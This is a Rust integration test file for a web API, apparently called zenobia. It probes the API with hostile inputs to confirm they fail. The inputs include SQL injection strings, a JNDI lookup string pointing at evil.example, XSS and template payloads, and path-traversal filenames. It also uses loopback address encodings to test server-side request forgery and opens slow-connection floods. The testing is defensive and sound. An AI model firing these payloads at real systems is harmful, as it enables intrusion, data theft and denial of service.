//! Questions and files of somebody who means harm.

#![allow(clippy::unwrap_used, reason = "a test")]

mod suite;

use std::collections::BTreeMap;
use std::io::{Read, Write};
use std::net::TcpStream;
use std::time::{Duration, Instant};

use axum::body::Body;
use axum::http::{Request, StatusCode};
use serde_json::{Value, json};
use suite::Server;
use zenobia_http::{App, password};
use zenobia_store::Store;

/// Values that would change a question if they were put into it as they are.
const VALUES: &[&str] = &[
    "' OR '1'='1",
    "' OR 1=1 --",
    "\" OR \"\"=\"",
    "'; DROP TABLE findings; --",
    "') UNION SELECT name, password, role FROM users --",
    "x' AND (SELECT count(*) FROM users) > 0 AND 'x'='x",
    "\\'; SELECT pg_sleep(5); --",
    "$$; SELECT 1; $$",
    "1; DELETE FROM reviews",
    "%",
    "_",
    "%25%27",
    "\\",
    "'",
    "\"",
    "`",
    ")",
    "*",
    "NEAR(a b",
    "a AND OR b",
    "col:x",
    "^x",
    "{a b}: c",
    "a & | ! b",
    "<-> x",
    "\u{0}",
    "a\u{0}b",
    "\u{202e}x",
    "\u{feff}",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "<script>alert(1)</script>",
    "../../../../etc/passwd",
    "-1",
    "0",
    "99999999999999999999",
    "18446744073709551615",
    "9223372036854775807",
    "1e309",
    "NaN",
    "null",
    "[]",
];

fn escaped(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02X}")).collect()
}

/// Routes that are asked without an id, with their parameters.
fn lists(document: &Value) -> Vec<(String, Vec<(String, bool)>)> {
    let mut all = Vec::new();
    for (path, operations) in document["paths"].as_object().unwrap() {
        let Some(operation) = operations.get("get") else { continue };
        // Tables of all rows are asked for by the tests of exports, and take long.
        let path = path.replace("{format}", "csv").replace("{collection}", "events").replace("{feed}", "events.atom");
        if path.contains('{') {
            continue;
        }
        let parameters = operation["parameters"].as_array().unwrap().iter().filter(|one| one["in"] == "query");
        // A name is free text when nothing else is said of it.
        let is_text = |one: &Value| {
            let schema = if one["schema"]["type"] == "array" { &one["schema"]["items"] } else { &one["schema"] };
            schema["type"] == "string"
                && ["enum", "format", "pattern", "$ref"].iter().all(|key| schema.get(key).is_none())
        };
        all.push((path, parameters.map(|one| (one["name"].as_str().unwrap().to_owned(), is_text(one))).collect()));
    }
    all
}

/// What there is, table by table.
fn counts(server: &Server) -> Vec<(&'static str, i64)> {
    Store::read(&server.location).unwrap().counts().unwrap()
}

#[test]
fn no_parameter_of_a_list_is_a_way_into_the_database() {
    for server in Server::on_all() {
        let before = counts(&server);
        let document = server.get("/openapi.json").json();
        let (mut asked, mut faults) = (0, Vec::new());
        for (path, parameters) in lists(&document) {
            for (name, is_text) in &parameters {
                // Words of a search may be found, and the gazetteer is asked by sound; any other name that nobody has leads to
                // what every such name leads to.
                let unknown = server.get(&format!("{path}?{name}=zzunknownzz"));
                let is_name =
                    *is_text && name != "text" && !path.ends_with("/gazetteer") && unknown.status == StatusCode::OK;
                let is_told_alike = is_name && unknown.header("content-type").contains("json");
                for value in VALUES {
                    let question = format!("{path}?{name}={}", escaped(value));
                    let begun = Instant::now();
                    let answer = server.get(&question);
                    asked += 1;
                    if !matches!(answer.status.as_u16(), 200 | 400 | 404) || answer.text.contains("argon2") {
                        faults.push(format!("{path}?{name}={value:?}: {} {}", answer.status, answer.text));
                    }
                    if begun.elapsed() > Duration::from_secs(4) {
                        faults.push(format!("{path}?{name}={value:?}: made the database wait"));
                    }
                    let is_sought = value.chars().filter(|letter| letter.is_alphanumeric()).count() > 2;
                    if is_told_alike && is_sought && answer.status == StatusCode::OK {
                        let (found, none) = (answer.json(), unknown.json());
                        if sizes(&found) != sizes(&none) {
                            faults.push(format!(
                                "{path}?{name}={value:?}: {:?} and not {:?}",
                                sizes(&found),
                                sizes(&none)
                            ));
                        }
                    }
                }
            }
        }
        assert!(faults.is_empty(), "{}", faults.join("\n"));
        assert!(asked > 5_000, "{asked}");
        assert_eq!(counts(&server), before);
    }
}

/// How many items the lists of an answer have.
fn sizes(answer: &Value) -> BTreeMap<&str, usize> {
    let lists =
        answer.as_object().unwrap().iter().filter_map(|(name, value)| Some((name.as_str(), value.as_array()?.len())));
    lists.collect()
}

#[test]
fn no_name_in_a_path_is_a_way_into_the_database() {
    for server in Server::on_all() {
        let before = counts(&server);
        let document = server.get("/openapi.json").json();
        for (path, operations) in document["paths"].as_object().unwrap() {
            let Some(start) = path.find('{').filter(|_| operations.get("get").is_some()) else { continue };
            let end = start + path[start..].find('}').unwrap() + 1;
            let rest = path[end..].replace("{feature}", "e1");
            for value in VALUES {
                let question = format!("{}{}{rest}", &path[..start], escaped(value));
                let answer = server.get(&question);
                assert!(
                    matches!(answer.status.as_u16(), 200 | 308 | 400 | 404),
                    "{question} ({value:?}): {}",
                    answer.text
                );
                // Sources are found by parts of their names, in which marks do not count.
                let may_be = path.contains("{collection}") || path.contains("/sources/");
                assert!(answer.status != StatusCode::OK || may_be, "{question} ({value:?}) was found");
            }
        }
        assert_eq!(counts(&server), before);
    }
}

#[test]
fn what_is_sent_to_be_kept_is_kept_as_it_is() {
    for server in Server::on_all() {
        let (before, claim) = (counts(&server), server.first("/api/v1/claims")["id"].clone());
        for value in VALUES.iter().filter(|value| !value.contains('\0')) {
            let path = format!("/api/v1/views/{}", escaped(value));
            let view = server.ask("PUT", &path, Some(json!({"actor": [value], "text": "word"})), &[]);
            assert_eq!(view.status, StatusCode::OK, "{value:?}: {}", view.text);
            let kept = server.get(&path).json();
            assert_eq!((&kept["name"], &kept["query"]["actor"][0]), (&json!(value), &json!(value)));
            assert!(
                server.get("/api/v1/views").json()["items"].as_array().unwrap().iter().any(|one| one["name"] == *value)
            );
            server.ask("DELETE", &path, None, &[]);
            let review =
                server.post("/api/v1/reviews", json!({"action": "accept", "target": claim, "why": value, "by": value}));
            assert!(
                review.status == StatusCode::CREATED || review.status == StatusCode::UNPROCESSABLE_ENTITY,
                "{}",
                review.text
            );
        }
        for zero in ["\u{0}", "a\u{0}b"] {
            let review =
                server.post("/api/v1/reviews", json!({"action": "accept", "target": claim, "why": zero, "by": zero}));
            assert!(!review.status.is_server_error(), "{}", review.text);
            let view = server.ask("PUT", &format!("/api/v1/views/{}", escaped(zero)), Some(json!({})), &[]);
            assert!(!view.status.is_server_error(), "{}", view.text);
        }
        let same = |all: Vec<(&'static str, i64)>| -> Vec<(&'static str, i64)> {
            all.into_iter().filter(|(what, _)| matches!(*what, "reports" | "claims" | "events")).collect()
        };
        assert_eq!(same(counts(&server)), same(before));
    }
}

/// A form with one file.
fn form(name: &str, text: &str) -> Request<Body> {
    let body = format!(
        "--edge\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{name}\"\r\n\r\n{text}\r\n--edge--\r\n"
    );
    let request = Request::post("/api/v1/documents").header("host", "127.0.0.1:8765");
    request.header("content-type", "multipart/form-data; boundary=edge").body(Body::from(body)).unwrap()
}

#[test]
fn names_of_files_lead_nowhere() {
    let server = Server::open();
    let folder = tempfile::tempdir().unwrap();
    let target = folder.path().join("planted.txt");
    for (number, name) in [
        "../../../../tmp/zenobia-planted.txt".to_owned(),
        target.display().to_string(),
        "..\\..\\zenobia-planted.txt".to_owned(),
        "....//....//zenobia-planted.txt".to_owned(),
        "/etc/zenobia-planted.txt".to_owned(),
        "C:\\zenobia-planted.txt".to_owned(),
    ]
    .iter()
    .enumerate()
    {
        let text = format!("On {} March 2016 soldiers entered the town of Palmyra in Syria.", number + 1);
        let answer = server.send(form(name, &text));
        assert_eq!(answer.status, StatusCode::ACCEPTED, "{name}: {}", answer.text);
        let id = answer.json()["task"]["id"].as_str().unwrap().to_owned();
        let told = server.get(&format!("/api/v1/tasks/{id}/events")).text;
        assert!(told.contains("\"state\":\"done\""), "{told}");
    }
    assert!(!target.exists() && !std::path::Path::new("/tmp/zenobia-planted.txt").exists());
    let listed = server.get("/api/v1/documents?limit=1000").json();
    let planted: Vec<&Value> =
        listed["items"].as_array().unwrap().iter().filter(|one| one.to_string().contains("planted")).collect();
    assert!(!planted.is_empty());
    for one in planted {
        let text = one.to_string();
        assert!(
            !text.contains("..") && !text.contains("/tmp") && !text.contains("/etc") && !text.contains(":\\\\"),
            "{text}"
        );
    }
}

#[test]
fn what_is_too_large_is_refused_before_it_is_kept() {
    let server = Server::with(|options| options.login = true);
    let kept = password::keep("a long enough secret").unwrap();
    Store::open(&server.location).unwrap().keep_person("admin", "admin", Some(&kept)).unwrap();
    let long = "x".repeat(17 << 10);
    let login = server.post("/api/v1/login", json!({"name": "admin", "password": long}));
    assert_eq!(login.status, StatusCode::PAYLOAD_TOO_LARGE, "{}", login.text);
    assert_eq!(login.json()["type"], "urn:zenobia:problem:too-large");
    let open = Server::open();
    let review = open.post("/api/v1/reviews", json!({"action": "accept", "target": "c1", "why": "x".repeat(3 << 20)}));
    assert_eq!(review.status, StatusCode::PAYLOAD_TOO_LARGE, "{}", review.text);
    assert_eq!(review.json()["params"]["megabytes"], "2");
    let text = open.post("/api/v1/documents", json!({"text": "word ".repeat(500_000)}));
    assert_eq!(text.json()["errors"][0]["type"], "urn:zenobia:problem:too-long", "{}", text.text);
    let files = open.send(form("large.txt", &"word ".repeat((129 << 20) / 5)));
    assert_eq!(files.status, StatusCode::PAYLOAD_TOO_LARGE, "{}", files.text);
    assert_eq!(files.json()["params"]["megabytes"], "128");
    // What is told of the length is believed only where it is too much.
    let lying =
        Request::post("/api/v1/reviews").header("host", "127.0.0.1:8765").header("content-type", "application/json");
    let lying = lying.header("content-length", "99999999999").body(Body::from("{}")).unwrap();
    assert_eq!(open.send(lying).status, StatusCode::PAYLOAD_TOO_LARGE);
}

#[test]
fn an_address_inside_is_not_fetched_for_anybody() {
    let inside = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    inside.set_nonblocking(true).unwrap();
    let port = inside.local_addr().unwrap().port();
    let server = Server::with(|options| options.fetch = true);
    for host in ["127.0.0.1", "localhost", "[::1]", "2130706433", "0x7f.1", "[::ffff:127.0.0.1]", "0"] {
        let url = format!("http://{host}:{port}/secret");
        let answer = server.post("/api/v1/documents", json!({"urls": [url]}));
        assert_eq!(answer.status, StatusCode::ACCEPTED, "{url}: {}", answer.text);
        let id = answer.json()["task"]["id"].as_str().unwrap().to_owned();
        server.get(&format!("/api/v1/tasks/{id}/events"));
        let told = server.get(&format!("/api/v1/tasks/{id}")).json()["told"].clone();
        assert_eq!(told[0]["said"]["type"], "urn:zenobia:problem:page-private", "{url}: {told}");
    }
    assert_eq!(inside.accept().unwrap_err().kind(), std::io::ErrorKind::WouldBlock, "somebody was there");
    for url in ["file:///etc/passwd", "ftp://127.0.0.1/x", "gopher://127.0.0.1/x", "javascript:alert(1)"] {
        let answer = server.post("/api/v1/documents", json!({"urls": [url]}));
        assert_eq!(answer.json()["errors"][0]["type"], "urn:zenobia:problem:no-address", "{url}: {}", answer.text);
    }
    let off = Server::open().post("/api/v1/documents", json!({"urls": ["https://news.example/"]}));
    assert_eq!((off.status, &off.json()["type"]), (StatusCode::FORBIDDEN, &json!("urn:zenobia:problem:fetching-off")));
}

/// Asks over the network, and returns how long the answer took.
fn time(address: std::net::SocketAddr) -> Duration {
    let begun = Instant::now();
    let mut stream = TcpStream::connect(address).unwrap();
    stream.write_all(b"GET /api/v1/claims?limit=5 HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n").unwrap();
    let mut answer = String::new();
    stream.read_to_string(&mut answer).unwrap();
    assert!(answer.starts_with("HTTP/1.1 200"), "{answer}");
    begun.elapsed()
}

#[test]
fn who_sends_a_letter_a_second_holds_nobody_up() {
    let server = Server::open();
    let listener = zenobia_http::bind("127.0.0.1:0".parse().unwrap()).unwrap();
    let address = listener.address();
    let app = App::new(suite::options(server.location.clone())).unwrap();
    std::thread::spawn(move || zenobia_http::serve(app, listener));
    time(address);
    let begun = "POST /api/v1/reviews HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nContent-Length: 5000\r\n\r\n{";
    let mut slow: Vec<TcpStream> = (0..200).map(|_| TcpStream::connect(address).unwrap()).collect();
    for (number, stream) in slow.iter_mut().enumerate() {
        // Half of them never come to the end of their headers, the others to the end of their body.
        let text = if number % 2 == 0 { &begun[..30] } else { begun };
        stream.write_all(text.as_bytes()).unwrap();
    }
    for _ in 0..4 {
        slow.iter_mut().for_each(|stream| drop(stream.write_all(b" ")));
        assert!(time(address) < Duration::from_secs(5));
        std::thread::sleep(Duration::from_millis(250));
    }
    let write = json!({"action": "accept", "target": server.first("/api/v1/claims")["id"]}).to_string();
    let begun = Instant::now();
    let mut stream = TcpStream::connect(address).unwrap();
    let head =
        "POST /api/v1/reviews HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\nContent-Type: application/json";
    write!(stream, "{head}\r\nContent-Length: {}\r\n\r\n{write}", write.len()).unwrap();
    let mut answer = String::new();
    stream.read_to_string(&mut answer).unwrap();
    assert!(answer.starts_with("HTTP/1.1 201"), "{answer}");
    assert!(begun.elapsed() < Duration::from_secs(10));
}
